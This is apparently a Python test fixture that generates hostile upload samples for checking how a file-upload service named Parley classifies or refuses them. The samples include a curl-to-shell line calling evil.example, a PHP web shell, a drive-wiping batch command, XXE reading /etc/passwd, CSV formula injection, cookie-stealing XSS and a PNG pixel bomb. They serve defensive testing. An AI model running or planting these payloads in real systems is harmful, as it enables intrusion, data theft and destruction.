"""A corpus of hostile and tricky uploads, generated in code (no binary files in the repo).

Each entry says what Parley must do with it: refuse it, or store it as one content type;
and whether it may be shown inline (a raster image `examine_image` decodes in full). The
expectations are what libmagic 5.44 actually reports, checked on real bytes; where that is
surprising, `why` says so. Everything is deterministic: the same bytes on every run.
"""

from __future__ import annotations

import functools
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

REFUSED = "refused"


@dataclass(frozen=True)
class HostileFile:
    name: str  # the name the client sends
    data: bytes
    expect: str  # "refused", or the content type it must be stored as
    why: str
    inline: bool = False  # a raster image examine_image decodes: may be shown in the page


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SCRIPT = b"<script>alert(document.cookie)</script>"


# --- images ----------------------------------------------------------------------------------


def _save(image: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def two_colour(size: tuple[int, int] = (40, 20), mode: str = "RGB") -> Image.Image:
    """Left half red, right half blue: shows which way an orientation turned it."""
    image = Image.new("RGB", size, (255, 0, 0))
    image.paste((0, 0, 255), (size[0] // 2, 0, size[0], size[1]))
    return image.convert(mode)


def noise(size: tuple[int, int] = (64, 64)) -> Image.Image:
    """Incompressible pixels, so the encoded image is long enough to cut in half."""
    rng = random.Random(7)
    return Image.frombytes(
        "RGB", size, bytes(rng.getrandbits(8) for _ in range(size[0] * size[1] * 3))
    )


def png(image: Image.Image | None = None, **params: object) -> bytes:
    return _save(image or two_colour(), "PNG", **params)


def jpeg(image: Image.Image | None = None, **params: object) -> bytes:
    return _save(image or two_colour(), "JPEG", quality=90, **params)


def gps_exif(orientation: int = 6) -> Image.Exif:
    """EXIF a thumbnail must not carry: where the photo was taken, the camera, the owner."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "LeakCam"
    exif[ExifTags.Base.Artist] = "Jane Customer"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 22.0, 12.5),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (4.0, 53.0, 41.25),
    }
    return exif


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(side: int = 20_000) -> bytes:
    """A 1-bit `side` x `side` PNG of one colour: ~50 KB on disk, 400 million pixels decoded."""
    row = b"\x00" * (1 + (side + 7) // 8)  # a filter byte, then one bit a pixel
    packer = zlib.compressobj(9)
    chunks = [packer.compress(row * 1000) for _ in range(side // 1000)]
    chunks += [packer.compress(row * (side % 1000)), packer.flush()]
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", b"".join(chunks))
        + png_chunk(b"IEND", b"")
    )


def animated_gif() -> bytes:
    frames = [Image.new("P", (16, 16), colour) for colour in (1, 2, 3)]
    return _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


# --- containers ----------------------------------------------------------------------------


def zip_of(*entries: tuple[str, bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries:
            # A fixed date: zipfile would stamp the current time.
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data)
        archive.comment = comment
    return out.getvalue()


def ooxml(part: str, *extra: tuple[str, bytes]) -> bytes:
    """The opening entries of an Office Open XML file, as Office writes them."""
    types = (
        b'<?xml version="1.0"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    )
    return zip_of(
        ("[Content_Types].xml", types),
        ("_rels/.rels", b"<Relationships/>"),
        (part, b"<x/>"),
        *extra,
    )


def opendocument(mimetype: str) -> bytes:
    return zip_of(("mimetype", mimetype.encode()), ("content.xml", b"<office:document-content/>"))


def jar(manifest_marker: bool) -> bytes:
    """A JAR; the `jar` tool marks its first entry with the 0xCAFE extra field."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        manifest = zipfile.ZipInfo("META-INF/MANIFEST.MF", date_time=(2026, 1, 1, 0, 0, 0))
        if manifest_marker:
            manifest.extra = b"\xfe\xca\x00\x00"
        archive.writestr(manifest, "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr(zipfile.ZipInfo("Evil.class", date_time=(2026, 1, 1, 0, 0, 0)), JAVA_CLASS)
    return out.getvalue()


def tar_of(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size, info.mtime = len(data), 0
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


# Microsoft Compound File (OLE2): the container of .doc/.xls/.ppt/.msg and of MSI installers.
_END, _FREE, _FAT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
MSI_CLSID = bytes.fromhex("84100c0000000000c000000000000046")  # {000C1084-…-46}: an MSI
_SUMMARY_FMTID = bytes.fromhex("e0859ff2f94f6810ab9108002b27b3d9")


def _dir_entry(
    name: str,
    kind: int,
    *,
    child: int = _FREE,
    right: int = _FREE,
    start: int = _END,
    size: int = 0,
    clsid: bytes = bytes(16),
) -> bytes:
    encoded = name.encode("utf-16-le") + b"\0\0" if name else b""
    entry = encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1 if kind else 0)
    entry += struct.pack("<III", _FREE, right, child) + clsid + bytes(20)
    return entry + struct.pack("<IQ", start, size)


def compound_file(streams: list[tuple[str, bytes]], clsid: bytes = bytes(16)) -> bytes:
    """A minimal version 3 compound file: one FAT sector, one directory sector, each stream
    padded to 4 KiB so none goes into the mini stream. At most three streams."""
    fat, data, next_sector, entries = [_FAT, _END], [], 2, []
    for index, (name, body) in enumerate(streams):
        padded = body.ljust(4096, b"\0")
        sectors = -(-len(padded) // 512)
        padded = padded.ljust(sectors * 512, b"\0")
        fat += [*range(next_sector + 1, next_sector + sectors), _END]
        right = index + 2 if index + 1 < len(streams) else _FREE
        entries.append(_dir_entry(name, 2, right=right, start=next_sector, size=len(padded)))
        data.append(padded)
        next_sector += sectors
    entries.insert(0, _dir_entry("Root Entry", 5, child=1, clsid=clsid))
    entries += [_dir_entry("", 0)] * (4 - len(entries))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 0x1000, _END, 0, _END, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108
    fat += [_FREE] * (128 - len(fat))
    return header + struct.pack("<128I", *fat) + b"".join(entries) + b"".join(data)


def summary_information(application: bytes) -> bytes:
    """A SummaryInformation property set naming the application that made the file."""
    value = struct.pack("<II", 0x1E, len(application) + 1) + application + b"\0"
    value = value.ljust(-(-len(value) // 4) * 4, b"\0")
    section = struct.pack("<IIII", 16 + len(value), 1, 0x12, 16) + value
    head = struct.pack("<HHI", 0xFFFE, 0, 0x00020006) + bytes(16) + struct.pack("<I", 1)
    return head + _SUMMARY_FMTID + struct.pack("<I", 48) + section


# --- programs --------------------------------------------------------------------------------

PE_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(44)
    + struct.pack("<I", 64)
    + b"PE\x00\x00\x4c\x01\x01\x00"
    + bytes(16)
    + b"\xe0\x00\x02\x01"
    + bytes(224)
)
DOS_EXE = b"MZ" + bytes(100)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(40)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(48)
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32)
WASM = b"\x00asm\x01\x00\x00\x00"
WINDOWS_SHORTCUT = (
    b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
)
PDF_ACTIVE = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R"
    b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Names<</JavaScript 3 0 R>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</Names[(x)<</S/JavaScript/JS(this.exportDataObject({}))>>]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
LOG = b"".join(b"2026-01-01 12:00:%02d INFO request ok\n" % s for s in range(20))
SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


# --- the corpus ------------------------------------------------------------------------------

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


@functools.cache
def corpus() -> list[HostileFile]:
    """Every hostile file, in a fixed order (built once: the tests parametrize over it)."""
    return [
        *_html(),
        *_xml(),
        *_polyglots(),
        *_documents(),
        *_archives(),
        *_programs(),
        *_text(),
        *_images(),
        *_names(),
        *_media(),
    ]


def _html() -> list[HostileFile]:
    utf16 = HTML.decode()
    return [
        HostileFile("evil.png", HTML, REFUSED, "HTML named .png: libmagic says text/html"),
        HostileFile("evil.jpg", HTML, REFUSED, "HTML named .jpg"),
        HostileFile("evil.pdf", HTML, REFUSED, "HTML named .pdf"),
        HostileFile("evil.txt", HTML, REFUSED, "HTML named .txt"),
        HostileFile("bare.txt", SCRIPT + b"\n", REFUSED, "a lone <script> element: text/html"),
        HostileFile(
            "bom.txt", b"\xef\xbb\xbf" + HTML, REFUSED, "HTML after a UTF-8 BOM: text/html"
        ),
        HostileFile(
            "utf16.txt",
            ("\ufeff" + utf16).encode("utf-16-le"),
            REFUSED,
            "UTF-16LE HTML with a BOM: text/html",
        ),
        HostileFile(
            "utf16be.txt",
            ("\ufeff" + utf16).encode("utf-16-be"),
            REFUSED,
            "UTF-16BE HTML with a BOM: text/html",
        ),
        HostileFile(
            "utf16-nobom.txt",
            utf16.encode("utf-16-le"),
            REFUSED,
            "UTF-16 HTML without a BOM: application/octet-stream, refused as unknown",
        ),
        HostileFile(
            "comment.html",
            b"<!-- just a comment -->\n",
            "text/plain",
            "an HTML comment alone is 'exported SGML', text/plain: renamed comment.html.txt",
        ),
        HostileFile(
            "comment-then-page.txt",
            b"<!-- hi -->\n<html>" + SCRIPT + b"</html>\n",
            REFUSED,
            "a comment, then a page: text/html",
        ),
        HostileFile(
            "page.hta",
            b'<HTA:APPLICATION ID="x"><script language="VBScript">x</script>',
            REFUSED,
            "an HTML application: text/html",
        ),
        HostileFile(
            "utf7.txt",
            b"+ADw-html+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n",
            "text/plain",
            "UTF-7 HTML is ASCII text to libmagic; no browser decodes UTF-7 any more",
        ),
    ]


def _xml() -> list[HostileFile]:
    xhtml = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body>' + SCRIPT + b"</body></html>\n"
    )
    xhtml_naming_svg = (
        b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"'
        b' xmlns:svg="http://www.w3.org/2000/svg"><svg:svg/>' + SCRIPT + b"</html>"
    )
    xxe = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    xslt = b'<?xml-stylesheet type="text/xsl" href="evil.xsl"?>\n'
    foreign = b'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    return [
        HostileFile("page.xhtml", xhtml, REFUSED, "XHTML: libmagic says text/xml"),
        HostileFile(
            "page.svg",
            xhtml_naming_svg,
            REFUSED,
            "XHTML naming the SVG namespace: libmagic says image/svg+xml, sniff sees the root"
            " is <html> and reports text/xml",
        ),
        HostileFile(
            "data.xml",
            b'<?xml version="1.0"?>\n' + xslt + b"<root/>",
            REFUSED,
            "XML with an XSLT stylesheet: text/xml",
        ),
        HostileFile(
            "script.svg",
            b'<?xml version="1.0"?>\n' + SVG_OPEN + SCRIPT + b"</svg>",
            "image/svg+xml",
            "SVG with <script>: accepted, download only",
        ),
        HostileFile(
            "onload.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "image/svg+xml",
            "SVG with onload=: download only",
        ),
        HostileFile(
            "foreign.svg",
            SVG_OPEN + foreign + SCRIPT + b"</body></foreignObject></svg>",
            "image/svg+xml",
            "SVG carrying HTML in <foreignObject>: download only",
        ),
        HostileFile(
            "link.svg",
            SVG_OPEN + b'<a xlink:href="javascript:alert(1)"><text>click</text></a></svg>',
            "image/svg+xml",
            "SVG with a javascript: link: download only",
        ),
        HostileFile(
            "xxe.svg",
            b'<?xml version="1.0"?>\n' + xxe + SVG_OPEN + b"<text>&x;</text></svg>",
            "image/svg+xml",
            "SVG with an external entity: Parley never parses it as XML; download only",
        ),
        HostileFile(
            "stylesheet.svg",
            b'<?xml version="1.0"?>\n' + xslt + SVG_OPEN + b"</svg>",
            "image/svg+xml",
            "SVG with an XSLT processing instruction: its root is <svg>, download only",
        ),
        HostileFile(
            "commented.svg",
            b"<!-- made by hand -->\n" + SVG_OPEN + b'<rect width="1" height="1"/></svg>',
            "text/plain",
            "an SVG starting with a comment is text/plain to libmagic: renamed commented.svg.txt",
        ),
        HostileFile(
            "commented-script.svg",
            b"<!-- made by hand -->\n" + SVG_OPEN + SCRIPT + b"</svg>",
            REFUSED,
            "the same with a <script>: libmagic says text/html",
        ),
    ]


def _polyglots() -> list[HostileFile]:
    clean_gif = _save(Image.new("P", (8, 8), 1), "GIF")
    gif_js = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//;"
    return [
        HostileFile(
            "polyglot.gif",
            gif_js,
            "image/gif",
            "a GIF header that is also JavaScript: image/gif, undecodable, so download only;"
            " as image/gif under nosniff no browser runs it as a script",
        ),
        HostileFile(
            "trailer.gif",
            clean_gif + b"\n/*" + SCRIPT + b"*/",
            "image/gif",
            "a valid GIF with script after its trailer: decodes, so inline",
            inline=True,
        ),
        HostileFile(
            "gif-html.gif",
            b"GIF89a" + HTML,
            "image/gif",
            "the GIF signature then HTML: image/gif, undecodable, download only",
        ),
        HostileFile(
            "text-chunk.png",
            png(pnginfo=_text_chunk()),
            "image/png",
            "HTML in a PNG tEXt chunk: a valid PNG; the thumbnail drops the chunk",
            inline=True,
        ),
        HostileFile(
            "after-iend.png",
            png() + HTML,
            "image/png",
            "HTML after IEND: still a valid PNG",
            inline=True,
        ),
        HostileFile(
            "signature-only.png",
            b"\x89PNG\r\n\x1a\n" + HTML,
            REFUSED,
            "the PNG signature then HTML, no IHDR: application/octet-stream",
        ),
        HostileFile(
            "comment.jpg",
            jpeg(comment=HTML),
            "image/jpeg",
            "HTML in a JPEG COM segment",
            inline=True,
        ),
        HostileFile(
            "exif-html.jpg",
            jpeg(exif=_html_exif()),
            "image/jpeg",
            "HTML in EXIF ImageDescription",
            inline=True,
        ),
        HostileFile(
            "jfif-html.jpg",
            b"\xff\xd8\xff\xe0" + HTML,
            "image/jpeg",
            "JPEG markers then HTML: image/jpeg, undecodable, download only",
        ),
        HostileFile(
            "pdf-first.html",
            b"%PDF-1.4\n" + HTML + b"%%EOF\n",
            "application/pdf",
            "a PDF header then HTML: application/pdf, renamed pdf-first.html.pdf",
        ),
        HostileFile(
            "tag-first.pdf",
            b"<html>" + SCRIPT + b"</html>\n%PDF-1.4\n%%EOF\n",
            "application/pdf",
            "a short HTML page then %PDF: libmagic says application/pdf (readers allow junk"
            " before the header); served as a PDF download, never as a page",
        ),
        HostileFile(
            "doctype-first.pdf",
            HTML + b"%PDF-1.4\n%%EOF\n",
            REFUSED,
            "a page with a doctype then %PDF: libmagic says text/html",
        ),
        HostileFile(
            "html-first.zip",
            HTML + zip_of(("a.txt", b"hi")),
            "application/zip",
            "HTML, then a ZIP: libmagic finds the ZIP; served as a download, never as a page",
        ),
        HostileFile(
            "comment.zip",
            zip_of(("a.txt", b"hi"), comment=HTML),
            "application/zip",
            "a ZIP whose comment is HTML",
        ),
        HostileFile(
            "page-inside.zip",
            zip_of(("index.html", HTML)),
            "application/zip",
            "HTML inside a ZIP: the archive is opaque, a download",
        ),
    ]


def _documents() -> list[HostileFile]:
    macro_docx = ooxml("word/document.xml", ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))
    ppt_summary = summary_information(b"Microsoft Office PowerPoint")
    wix = summary_information(b"Windows Installer XML Toolset (3.11)")
    outlook = [("__properties_version1.0", b"\0"), ("__recip_version1.0_#00000000", b"\0")]
    return [
        HostileFile(
            "active.pdf",
            PDF_ACTIVE,
            "application/pdf",
            "a PDF with /OpenAction and /JavaScript: its viewer sandboxes it",
        ),
        HostileFile(
            "plain.docx",
            zip_of(("a.txt", b"hi")),
            "application/zip",
            "a ZIP named .docx: stored as a ZIP, renamed plain.docx.zip",
        ),
        HostileFile(
            "report.docx",
            zip_of(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), ("macro.vbs", b"x")),
            DOCX,
            "a ZIP whose first entry is word/vbaProject.bin: libmagic calls it Word 2007+"
            " from the entry name alone; Word finds no [Content_Types].xml and opens nothing",
        ),
        HostileFile(
            "invoice.docm",
            macro_docx,
            DOCX,
            "OOXML with vbaProject.bin: libmagic cannot tell macros; renamed"
            " invoice.docm.docx, and Word refuses macros in a .docx",
        ),
        HostileFile("real.docx", ooxml("word/document.xml"), DOCX, "a Word document"),
        HostileFile("real.xlsx", ooxml("xl/workbook.xml"), XLSX, "an Excel workbook"),
        HostileFile("real.pptx", ooxml("ppt/presentation.xml"), PPTX, "a PowerPoint file"),
        HostileFile("real.odt", opendocument(ODT), ODT, "an OpenDocument text"),
        HostileFile("real.ods", opendocument(ODS), ODS, "an OpenDocument spreadsheet"),
        HostileFile(
            "legacy.doc",
            compound_file([("WordDocument", b"\xec\xa5")]),
            "application/msword",
            "a Word 97 document",
        ),
        HostileFile(
            "legacy.xls",
            compound_file([("Workbook", b"\x09\x08")]),
            "application/vnd.ms-excel",
            "an Excel 97 workbook",
        ),
        HostileFile(
            "legacy.ppt",
            compound_file(
                [("PowerPoint Document", b"\0"), ("\x05SummaryInformation", ppt_summary)]
            ),
            "application/vnd.ms-powerpoint",
            "a PowerPoint 97 file",
        ),
        HostileFile(
            "forwarded.msg",
            compound_file(outlook),
            "application/vnd.ms-outlook",
            "an Outlook message",
        ),
        HostileFile(
            "setup.msi",
            compound_file([("\x05SummaryInformation", summary_information(b"x"))], MSI_CLSID),
            REFUSED,
            "an MSI by its class id: application/x-msi",
        ),
        HostileFile(
            "setup.doc",
            compound_file([("\x05SummaryInformation", wix)]),
            REFUSED,
            "an MSI by the application that made it: application/vnd.ms-msi",
        ),
        HostileFile(
            "setup2.msi",
            compound_file([("WordDocument", b"\xec\xa5")], MSI_CLSID),
            "application/msword",
            "the MSI class id with a WordDocument stream and no summary: libmagic says msword;"
            " renamed setup2.msi.doc, so Windows Installer never opens it",
        ),
        HostileFile(
            "unknown.ole",
            compound_file([("Payload", b"x")]),
            REFUSED,
            "a compound file libmagic cannot name (an MSI could hide so): x-ole-storage",
        ),
    ]


def _archives() -> list[HostileFile]:
    logs = tar_of("app.log", LOG)
    return [
        HostileFile(
            "tool.jar",
            jar(manifest_marker=True),
            REFUSED,
            "a JAR as the jar tool writes it: application/java-archive",
        ),
        HostileFile(
            "tool2.jar",
            jar(manifest_marker=False),
            "application/zip",
            "a JAR without the 0xCAFE marker is a plain ZIP to libmagic: renamed tool2.jar.zip",
        ),
        HostileFile(
            "app.apk",
            zip_of(("AndroidManifest.xml", b"\x03\x00"), ("classes.dex", b"dex\n035\x00")),
            REFUSED,
            "an Android package",
        ),
        HostileFile(
            "logs.tar.gz", gzip.compress(logs, mtime=0), "application/gzip", "gzipped logs"
        ),
        HostileFile("logs.tar", logs, "application/x-tar", "a tar of logs"),
        HostileFile("sos.tar.xz", lzma.compress(logs), "application/x-xz", "a sosreport"),
        HostileFile("stuff.rar", b"Rar!\x1a\x07\x00" + bytes(24), REFUSED, "RAR: ask for ZIP"),
        HostileFile("stuff.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), REFUSED, "7-Zip"),
    ]


def _programs() -> list[HostileFile]:
    return [
        HostileFile("invoice.pdf", PE_EXE, REFUSED, "a PE executable named .pdf"),
        HostileFile("cat.png", PE_EXE, REFUSED, "a PE executable named .png"),
        HostileFile("old.txt", DOS_EXE, REFUSED, "an MZ (DOS) executable"),
        HostileFile("notes.txt", ELF, REFUSED, "an ELF executable named .txt"),
        HostileFile("photo.jpg", MACH_O, REFUSED, "a Mach-O executable named .jpg"),
        HostileFile("Evil.class", JAVA_CLASS, REFUSED, "compiled Java: x-java-applet"),
        HostileFile("module.txt", WASM, REFUSED, "WebAssembly"),
        HostileFile("shortcut.txt", WINDOWS_SHORTCUT, REFUSED, "a Windows shortcut (.lnk)"),
        HostileFile(
            "holiday.jpg",
            b"#!/bin/sh\ncurl https://evil.example | sh\n",
            REFUSED,
            "a shell script named .jpg: text/x-shellscript",
        ),
        HostileFile(
            "debug.log",
            b"#!/usr/bin/env python\nimport os\nos.system('id')\n",
            REFUSED,
            "a Python script named .log: text/x-script.python",
        ),
        HostileFile(
            "tool.txt",
            b"import os\nimport sys\n\ndef main():\n    print(sys.argv)\n",
            REFUSED,
            "Python without a shebang is still text/x-script.python",
        ),
        HostileFile(
            "helper.txt",
            b"import os\n\nif __name__ == '__main__':\n    os.system('id')\n",
            "text/plain",
            "other Python without a shebang is text/plain to libmagic: kept as a .txt,"
            " which no desktop runs",
        ),
        HostileFile(
            "run.txt",
            b"#!/usr/bin/env node\nrequire('child_process').exec('id')\n",
            REFUSED,
            "a Node script: application/javascript",
        ),
        HostileFile(
            "lib.js",
            b'"use strict";\nconst fs = require("fs");\nmodule.exports = fs;\n',
            REFUSED,
            "JavaScript libmagic recognises (use strict, require): application/javascript",
        ),
        HostileFile(
            "steal.txt",
            b"function f() {\n  return document.cookie;\n}\nf();\n",
            "text/plain",
            "plain JavaScript libmagic does not recognise: text/plain, served as text",
        ),
        HostileFile(
            "steal.js",
            b"function f() {\n  return document.cookie;\n}\nf();\n",
            "text/plain",
            "the same named .js: text/plain, renamed steal.js.txt",
        ),
        HostileFile(
            "run.bat", b"@echo off\r\ndel /q C:\\*\r\n", REFUSED, "batch: text/x-msdos-batch"
        ),
        HostileFile(
            "run.ps1",
            b"param($x)\nfunction Get-X { Invoke-Expression $x }\n",
            "text/plain",
            "PowerShell is text/plain to libmagic: renamed run.ps1.txt, never run on a click",
        ),
        HostileFile(
            "tweak.reg",
            b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\X]\r\n",
            REFUSED,
            "a registry file: text/x-ms-regedit",
        ),
        HostileFile("page.php", b"<?php system($_GET['c']); ?>\n", REFUSED, "PHP: text/x-php"),
        HostileFile(
            "letter.rtf",
            b"{\\rtf1\\ansi {\\object\\objemb hello}}",
            REFUSED,
            "RTF, which embeds OLE objects: text/rtf",
        ),
        HostileFile(
            "page.eps",
            b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n",
            REFUSED,
            "PostScript: a program",
        ),
    ]


def _text() -> list[HostileFile]:
    return [
        HostileFile(
            "server.log",
            LOG + b"ERROR render failed: " + SCRIPT + b"\n" + LOG,
            REFUSED,
            "a log with <script> in the middle: libmagic says text/html, so refused (zip it)",
        ),
        HostileFile(
            "widget.log",
            LOG + b"ERROR bad markup <svg onload=alert(1)>\n" + LOG,
            "text/plain",
            "a log with <svg onload=…> in the middle: text/plain to libmagic, served as text",
        ),
        HostileFile("app.log", LOG, "text/plain", "an ordinary log"),
        HostileFile(
            "export.csv",
            b"id,name,email\n1,Ann,ann@example.com\n2,Bob,=cmd|' /C calc'!A0\n",
            "text/csv",
            "a CSV with a formula cell: the spreadsheet warns, not ours to judge",
        ),
        HostileFile(
            "export.json",
            b'{"comment": "' + SCRIPT + b'", "n": [1, 2, 3]}\n',
            "text/plain",
            "JSON with a script in a string: application/json, stored as text/plain",
        ),
        HostileFile(
            "fix.patch",
            b"--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a = 1\n+a = 2\n",
            "text/plain",
            "a diff: text/x-diff, stored as text",
        ),
        HostileFile(
            "forwarded.eml",
            b"From: a@example.com\nTo: b@example.com\nSubject: hi\nMIME-Version: 1.0\n\nbody\n",
            "message/rfc822",
            "an email",
        ),
        HostileFile("empty.txt", b"", REFUSED, "an empty file: inode/x-empty"),
        HostileFile("zeros.bin", bytes(64), REFUSED, "application/octet-stream"),
        HostileFile("noise.tga", bytes(range(256)), REFUSED, "read as a Targa image: unlisted"),
    ]


def _images() -> list[HostileFile]:
    return [
        HostileFile("screenshot.png", png(), "image/png", "a screenshot", inline=True),
        HostileFile(
            "bomb.png",
            png_bomb(),
            "image/png",
            "20000 x 20000 pixels in ~50 KB: accepted as a PNG, but over MAX_IMAGE_PIXELS so"
            " never decoded, shown inline or thumbnailed",
        ),
        HostileFile(
            "truncated.png",
            png(noise())[:3000],
            "image/png",
            "a PNG cut short: still a PNG to libmagic, download only",
        ),
        HostileFile(
            "gps.jpg",
            jpeg(two_colour((80, 40)), exif=gps_exif()),
            "image/jpeg",
            "a photo with GPS EXIF and orientation 6: the thumbnail carries neither",
            inline=True,
        ),
        HostileFile(
            "cmyk.jpg", jpeg(two_colour(mode="CMYK")), "image/jpeg", "CMYK JPEG", inline=True
        ),
        HostileFile("animated.gif", animated_gif(), "image/gif", "an animation", inline=True),
        HostileFile(
            "photo.webp",
            _save(two_colour(), "WEBP", quality=80),
            "image/webp",
            "a WebP photo",
            inline=True,
        ),
        HostileFile(
            "alpha.png", png(two_colour(mode="RGBA")), "image/png", "transparency", inline=True
        ),
        HostileFile("scan.tif", _save(two_colour(), "TIFF"), "image/tiff", "download only"),
        HostileFile("paint.bmp", _save(two_colour(), "BMP"), "image/bmp", "download only"),
    ]


def _names() -> list[HostileFile]:
    """Hostile names on harmless bytes (the tests check safe_name on every accepted entry)."""
    image = png()
    text = b"hello\n"
    return [
        HostileFile(
            "invoice\u202egpj.exe",
            image,
            "image/png",
            "an RTL override shows invoiceexe.jpg: it goes, and .png is appended",
            inline=True,
        ),
        HostileFile("nul\x00.png.exe", image, "image/png", "a NUL in the name", inline=True),
        HostileFile("../../etc/passwd", text, "text/plain", "path traversal: passwd.txt"),
        HostileFile("C:\\Windows\\x.png", image, "image/png", "a Windows path", inline=True),
        HostileFile("a" * 300 + ".png", image, "image/png", "300 characters", inline=True),
        HostileFile("....", text, "text/plain", "only dots: file.txt"),
        HostileFile("CON.png", image, "image/png", "a Windows device: _CON.png", inline=True),
        HostileFile(
            'a"\r\nX-Evil: 1.png',
            image,
            "image/png",
            "header injection: quotes and CR/LF go",
            inline=True,
        ),
        HostileFile(
            "\U0001f4f8 Screenshot \u2014 caf\u00e9.png",
            image,
            "image/png",
            "emoji and accents stay",
            inline=True,
        ),
        HostileFile(".htaccess", text, "text/plain", "a hidden file: htaccess.txt"),
    ]


def _media() -> list[HostileFile]:
    def ftyp(brand: bytes, compatible: bytes) -> bytes:
        box = b"ftyp" + brand + bytes(4) + compatible
        return struct.pack(">I", 4 + len(box)) + box + struct.pack(">I", 8) + b"free"

    webm = bytes.fromhex(
        "1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878102428581021853800167"
    )
    mp3 = b"ID3\x03\x00\x00\x00\x00\x00\x00\xff\xfb\x90\x00" + bytes(400)
    return [
        HostileFile("clip.mp4", ftyp(b"isom", b"isomiso2"), "video/mp4", "a screen recording"),
        HostileFile("clip.mov", ftyp(b"qt  ", b"qt  "), "video/quicktime", "a macOS recording"),
        HostileFile("clip.webm", webm, "video/webm", "a MediaRecorder recording"),
        HostileFile("voice.mp3", mp3, "audio/mpeg", "a voice note"),
        HostileFile("voice.m4a", ftyp(b"M4A ", b"M4A isom"), "audio/mp4", "audio/x-m4a"),
        HostileFile(
            "photo.heic",
            ftyp(b"heic", b"mif1heic"),
            "image/heic",
            "an iPhone photo: kept, download only (Pillow cannot decode HEIC)",
        ),
    ]


def _text_chunk() -> PngInfo:
    info = PngInfo()
    info.add_text("Comment", HTML.decode())
    return info


def _html_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.ImageDescription] = HTML.decode()
    return exif
